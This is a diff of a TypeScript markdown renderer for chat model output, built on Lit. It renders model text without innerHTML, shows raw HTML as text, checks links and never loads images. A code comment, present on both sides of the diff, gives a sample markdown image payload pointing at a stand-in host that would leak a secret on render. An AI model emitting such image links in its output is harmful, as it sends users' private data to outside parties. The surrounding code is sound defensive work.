@@ -1,11 +1,10 @@
-// Renders marked's lexer tokens to Lit templates with text and attribute bindings only: model
+// Renders markdown tokens (lex-markdown.ts) to Lit templates with text and attribute bindings only: model
 // output never reaches innerHTML, raw HTML shows as text, links are checked, images never load.
 
 import { html, nothing, type TemplateResult } from 'lit';
-import type { Token, Tokens } from 'marked';
 import { copyIcon } from '../icons.js';
 import type { SchemaChatStrings } from '../schema-chat-strings.js';
-import { decodeEntities } from './decode-entities.js';
+import type { BlockToken, InlineToken } from './lex-markdown.js';
 import { toSafeHref } from './to-safe-href.js';
 
 /** The texts the markdown renderer shows. */
@@ -20,131 +19,86 @@ export interface MarkdownContext {
 export type Renderable = TemplateResult | string | typeof nothing | Renderable[];
 
 /** Renders one block-level token (paragraph, heading, list, table, code, quote, rule, raw HTML). */
-export function renderBlockToken(token: Token, context: MarkdownContext): Renderable {
-  const t = token as Tokens.Generic;
+export function renderBlockToken(token: BlockToken, context: MarkdownContext): Renderable {
   switch (token.type) {
-    case 'space':
-    case 'def':
-      return nothing;
     case 'paragraph':
-      return html`<p>${renderInlineTokens(t.tokens, context)}</p>`;
-    case 'heading': {
-      const level = Math.min(6, Number(t.depth) + 2);
-      return html`<p class="heading h${t.depth}" role="heading" aria-level=${level}>${renderInlineTokens(t.tokens, context)}</p>`;
-    }
+      return html`<p>${renderInlineTokens(token.tokens, context)}</p>`;
+    case 'text':
+      // The body of a tight list item: no paragraph spacing.
+      return renderInlineTokens(token.tokens, context);
+    case 'heading':
+      return html`<p class="heading h${token.depth}" role="heading" aria-level=${Math.min(6, token.depth + 2)}>${renderInlineTokens(token.tokens, context)}</p>`;
     case 'code':
-      return renderCodeBlock(String(t.text ?? ''), t.lang ? String(t.lang) : '', context);
+      return renderCodeBlock(token.text, token.lang, context);
     case 'blockquote':
-      return html`<blockquote>${renderBlockTokens(t.tokens, context)}</blockquote>`;
-    case 'list':
-      return renderList(token as Tokens.List, context);
-    case 'table':
-      return renderTable(token as Tokens.Table, context);
+      return html`<blockquote>${renderBlockTokens(token.tokens, context)}</blockquote>`;
+    case 'list': {
+      const items = token.items.map(
+        (item) =>
+          html`<li>${item.task ? (item.checked ? '☑ ' : '☐ ') : ''}${renderBlockTokens(item.tokens, context)}</li>`,
+      );
+      if (!token.ordered) return html`<ul>${items}</ul>`;
+      return html`<ol start=${token.start === 1 ? nothing : token.start}>${items}</ol>`;
+    }
+    case 'table': {
+      const cell = (tokens: InlineToken[], column: number, header: boolean) => {
+        const align = token.align[column];
+        const className = align ? `align-${align}` : '';
+        const content = renderInlineTokens(tokens, context);
+        return header
+          ? html`<th class=${className}>${content}</th>`
+          : html`<td class=${className}>${content}</td>`;
+      };
+      return html`<div class="table-wrap"><table>
+        <thead><tr>${token.header.map((tokens, column) => cell(tokens, column, true))}</tr></thead>
+        <tbody>${token.rows.map((row) => html`<tr>${row.map((tokens, column) => cell(tokens, column, false))}</tr>`)}</tbody>
+      </table></div>`;
+    }
     case 'hr':
       return html`<hr />`;
     case 'html':
       // Raw HTML is shown, never interpreted.
       return html`<p class="raw">${token.raw}</p>`;
-    case 'text':
-      // Block-level text: the body of a tight list item.
-      return t.tokens ? renderInlineTokens(t.tokens, context) : decodeEntities(String(t.text));
     default:
-      // Token types a future marked adds: safe as text.
-      return html`<p>${token.raw}</p>`;
+      // Blank lines and link definitions show nothing.
+      return nothing;
   }
 }
 
 /** Renders a sequence of block tokens. */
-export function renderBlockTokens(
-  tokens: Token[] | undefined,
-  context: MarkdownContext,
-): Renderable {
-  return (tokens ?? []).map((token) => renderBlockToken(token, context));
+export function renderBlockTokens(tokens: BlockToken[], context: MarkdownContext): Renderable {
+  return tokens.map((token) => renderBlockToken(token, context));
 }
 
-/** Renders inline tokens (text, emphasis, code spans, links, images as text, breaks). */
-export function renderInlineTokens(
-  tokens: Token[] | undefined,
-  context: MarkdownContext,
-): Renderable {
-  return (tokens ?? []).map((token) => renderInlineToken(token, context));
-}
-
-function renderInlineToken(token: Token, context: MarkdownContext): Renderable {
-  const t = token as Tokens.Generic;
-  switch (token.type) {
-    case 'text':
-      return t.tokens
-        ? renderInlineTokens(t.tokens, context)
-        : t.escaped
-          ? String(t.text)
-          : decodeEntities(String(t.text));
-    case 'escape':
-      return String(t.text);
-    case 'strong':
-      return html`<strong>${renderInlineTokens(t.tokens, context)}</strong>`;
-    case 'em':
-      return html`<em>${renderInlineTokens(t.tokens, context)}</em>`;
-    case 'del':
-      return html`<del>${renderInlineTokens(t.tokens, context)}</del>`;
-    case 'codespan':
-      // Character references are literal inside code spans (CommonMark 6.1).
-      return html`<code>${String(t.text)}</code>`;
-    case 'br':
-      return html`<br />`;
-    case 'link':
-      return renderLink(token as Tokens.Link, context);
-    case 'image':
-      return renderImage(token as Tokens.Image, context);
-    case 'checkbox':
-      return t.checked ? '☑ ' : '☐ ';
-    case 'html':
-      return token.raw;
-    default:
-      return token.raw;
-  }
-}
-
-function renderLink(token: Tokens.Link, context: MarkdownContext): Renderable {
-  // Autolinks are literal: marked does not resolve character references in them.
-  const href = toSafeHref(token.href, !token.autolink);
-  const label = token.autolink ? token.text : renderInlineTokens(token.tokens, context);
-  if (!href) return label;
-  const title = token.title ? decodeEntities(token.title) : undefined;
-  return html`<a part="link" href=${href} title=${title ?? nothing} target="_blank" rel="noopener noreferrer nofollow">${label}</a>`;
-}
-
-function renderImage(token: Tokens.Image, context: MarkdownContext): Renderable {
-  // Never loaded: a remote image in model output is a data-exfiltration channel
-  // (`![x](https://evil.example/?q=<secret>)` leaks on render, no click needed).
-  const alt = decodeEntities(token.text ?? '');
-  return html`<span class="image-alt">[${context.strings.image}${alt ? `: ${alt}` : ''}]</span>`;
-}
-
-function renderList(token: Tokens.List, context: MarkdownContext): Renderable {
-  const items = token.items.map(
-    (item) => html`<li>${renderBlockTokens(item.tokens, context)}</li>`,
-  );
-  if (!token.ordered) return html`<ul>${items}</ul>`;
-  const start = typeof token.start === 'number' && token.start !== 1 ? token.start : nothing;
-  return html`<ol start=${start}>${items}</ol>`;
-}
-
-function renderTable(token: Tokens.Table, context: MarkdownContext): Renderable {
-  const cellClass = (align: string | null) => (align ? `align-${align}` : '');
-  return html`<div class="table-wrap"><table>
-    <thead><tr>${token.header.map(
-      (cell) =>
-        html`<th class=${cellClass(cell.align)}>${renderInlineTokens(cell.tokens, context)}</th>`,
-    )}</tr></thead>
-    <tbody>${token.rows.map(
-      (row) =>
-        html`<tr>${row.map(
-          (cell) =>
-            html`<td class=${cellClass(cell.align)}>${renderInlineTokens(cell.tokens, context)}</td>`,
-        )}</tr>`,
-    )}</tbody>
-  </table></div>`;
+/** Renders inline tokens: text, emphasis, code spans, checked links, images as text, breaks. */
+export function renderInlineTokens(tokens: InlineToken[], context: MarkdownContext): Renderable {
+  return tokens.map((token): Renderable => {
+    switch (token.type) {
+      case 'text':
+        return token.text;
+      case 'strong':
+        return html`<strong>${renderInlineTokens(token.tokens, context)}</strong>`;
+      case 'em':
+        return html`<em>${renderInlineTokens(token.tokens, context)}</em>`;
+      case 'del':
+        return html`<del>${renderInlineTokens(token.tokens, context)}</del>`;
+      case 'codespan':
+        return html`<code>${token.text}</code>`;
+      case 'br':
+        return html`<br />`;
+      case 'link': {
+        const label = renderInlineTokens(token.tokens, context);
+        // The lexer already resolved escapes and references in the destination.
+        const href = toSafeHref(token.href, false);
+        if (!href) return label;
+        return html`<a part="link" href=${href} title=${token.title ?? nothing} target="_blank" rel="noopener noreferrer nofollow">${label}</a>`;
+      }
+      case 'image':
+        // Never loaded: a remote image in model output is a data-exfiltration channel
+        // (`![x](https://evil.example/?q=<secret>)` leaks on render, no click needed).
+        return html`<span class="image-alt">[${context.strings.image}${token.alt ? `: ${token.alt}` : ''}]</span>`;
+    }
+  });
 }
 
 function renderCodeBlock(code: string, lang: string, context: MarkdownContext): TemplateResult {
